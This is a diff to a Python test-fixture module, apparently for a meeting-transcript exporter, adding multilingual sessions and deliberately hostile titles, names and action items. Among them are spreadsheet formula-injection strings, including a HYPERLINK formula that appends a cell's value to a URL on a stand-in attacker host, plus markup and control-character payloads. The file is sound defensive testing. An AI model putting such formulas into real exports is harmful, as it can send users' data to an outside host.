@@ -106,3 +106,61 @@ def with_audio(session: Session, path: Path) -> Session:
     data = path.read_bytes()
     ref = FileRef(path.name, path, "audio", "wav", len(data), hashlib.sha256(data).hexdigest(), "audio/wav")
     return dataclasses.replace(session, audio=ref)
+
+
+# Whole sentences per script, for extraction checks in logical order (no punctuation that a
+# bidi-aware extractor may legitimately move).
+JAPANESE = "会議は来週の月曜日に続きます"
+ARABIC = "مرحبا بكم في اجتماع اليوم"
+HEBREW = "שלום לכולם ברוכים הבאים"
+CHINESE = "我们下周继续讨论预算"
+LONG_WORD = "Donaudampfschifffahrt" * 13           # 273 characters, no break opportunity
+FORMULAS = ("=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
+            "\tcmd", "\rcmd")
+HOSTILE_TITLE = "R&D <i>unclosed & a<b <draft> ]]> -->\x07 =1+1 " + LONG_WORD[:300] + " Ελληνικά 日本語 عربي"
+
+
+def scripts_session() -> Session:
+    """One meeting in many scripts: Latin, Cyrillic, Greek, Japanese, Chinese, Arabic, Hebrew."""
+    people = [Participant("spk0", "Anna Schmidt", "Chair"), Participant("spk1", "Γιώργος Παπαδόπουλος"),
+              Participant("spk2", "山田 太郎"), Participant("spk3", "فاطمة الزهراء"), Participant("spk4", "דוד כהן")]
+    lines = [(people[0], LATIN), (people[1], GREEK), (people[2], JAPANESE), (people[2], CHINESE),
+             (people[3], ARABIC), (people[4], HEBREW), (people[0], CYRILLIC),
+             (people[3], "Budget 2026: " + ARABIC)]
+    segs = [Segment(i, i * 10.0, i * 10.0 + 9.0, p.speaker_id, p.name, text, 0.9) for i, (p, text) in enumerate(lines)]
+    return _session(_summary(5, f"{JAPANESE} · {GREEK[:10]}", 80), people, segs, f"{GREEK}\n\n{JAPANESE}\n\n{ARABIC}",
+                    [ActionItem(ARABIC, people[3].name, dt.date(2026, 4, 1)), ActionItem(JAPANESE, people[2].name)],
+                    ("予算", "Ελληνικά"))
+
+
+def hostile_titles_session() -> Session:
+    """Markup, control characters, formula prefixes, a 300-character word and mixed scripts everywhere."""
+    names = [f"{f} <b>Eve</b>" for f in FORMULAS[:3]] + [LONG_WORD + " Mallory"]
+    people = [Participant(f"x{i}", n, "<role>") for i, n in enumerate(names)]
+    texts = list(FORMULAS) + [LONG_WORD, HOSTILE_TITLE, "<i>unclosed & a<b", "{\\an8}<font color=red>x</font>"]
+    segs = [Segment(i, i * 4.0, i * 4.0 + 3.5, people[i % 4].speaker_id, people[i % 4].name, t, 0.8)
+            for i, t in enumerate(texts)]
+    return _session(_summary(6, HOSTILE_TITLE, 60, location="<loc>&", tags=("=tag", "<t>")), people, segs,
+                    HOSTILE_TITLE, [ActionItem(f, "=owner", dt.date(2026, 5, 1)) for f in FORMULAS] +
+                    [ActionItem(LONG_WORD, LONG_WORD)], (HOSTILE_TITLE,), description=HOSTILE_TITLE)
+
+
+def retitled(session: Session, title: str) -> Session:
+    import dataclasses
+    return dataclasses.replace(session, summary=dataclasses.replace(session.summary, title=title))
+
+
+def mixed_long_session(n: int = 2000) -> Session:
+    """The 2-hour meeting with every 5th line in another script (Greek, Cyrillic, Japanese, Arabic, Hebrew)."""
+    import dataclasses
+    base = long_session(n)
+    others = [GREEK, CYRILLIC, JAPANESE + "。" + CHINESE, ARABIC, HEBREW, "Budget 2026: " + ARABIC]
+    people = list(base.participants) + [Participant("spk4", "山田 太郎"), Participant("spk5", "فاطمة الزهراء")]
+    segs = []
+    for g in base.segments:
+        if g.index % 5 == 4:
+            k = g.index // 5 % len(others)
+            p = people[4 + k % 2] if k >= 2 else people[g.index % 4]
+            g = dataclasses.replace(g, text=others[k], speaker_id=p.speaker_id, speaker_name=p.name)
+        segs.append(g)
+    return dataclasses.replace(base, participants=tuple(people), segments=tuple(segs))
